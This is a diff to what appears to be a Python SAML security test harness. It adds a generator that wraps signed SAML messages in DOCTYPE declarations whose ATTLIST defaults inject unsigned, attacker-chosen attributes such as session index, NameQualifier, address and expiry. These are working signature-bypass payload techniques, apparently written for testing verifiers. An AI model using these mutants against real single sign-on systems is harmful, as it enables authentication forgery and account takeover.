@@ -425,9 +425,35 @@ def attacker_resigned(text, tns, tlocal):
             yield "diagnostics-injection:%s:%s" % (where, sname), "sig", raw.decode("utf-8")
 
 
+def doctype_games(text, tns, tlocal):
+    """A document type declaration in front of the untouched signed message: attribute defaults (<!ATTLIST>) that a DTD-aware parser adds
+    to signed elements although no signature covers them; the message itself stays byte-identical."""
+    doc = Doc(text)
+    t = _target(doc, tns, tlocal)
+    if t is None:
+        return
+    body = text[text.index("?>") + 2:] if text.startswith("<?xml") else text
+    root_q = doc.qname(doc.root)
+    wanted = [("NameID", "SPProvidedID", "attacker-provided-id"), ("NameID", "NameQualifier", "https://attacker.example.net/idp"),
+              ("AuthnStatement", "SessionNotOnOrAfter", "2099-01-01T00:00:00Z"), ("AuthnStatement", "SessionIndex", "attacker-session"),
+              ("SubjectConfirmationData", "Address", "203.0.113.66"), ("Conditions", "NotBefore", "2001-01-01T00:00:00Z"),
+              ("Attribute", "FriendlyName", "attackerFriendlyName"), ("Assertion", "verifDefaulted", "x")]
+    decls = []
+    for local, attr, val in wanted:
+        nodes = doc.find(SAML, local)
+        if not nodes or attr in nodes[0].attrs:
+            continue
+        q = doc.qname(nodes[0])
+        one = '<!ATTLIST %s %s CDATA "%s">' % (q, attr, val)
+        decls.append(one)
+        yield "doctype-attlist-default:%s/%s" % (local, attr), "sig", "<!DOCTYPE %s [%s]>%s" % (root_q, one, body)
+    if decls:
+        yield "doctype-attlist-default:all", "sig", "<!DOCTYPE %s [%s]>%s" % (root_q, "".join(decls), body)
+
+
 def mutants(text, tns, tlocal, families=("edit", "comment", "sig", "ref", "id", "xsw")):
     seen = set()
-    for gen in (edits, signature_games, attacker_resigned, wrapping):
+    for gen in (edits, signature_games, attacker_resigned, doctype_games, wrapping):
         try:
             for name, fam, m in gen(text, tns, tlocal):
                 if fam in families and name not in seen and m != text:
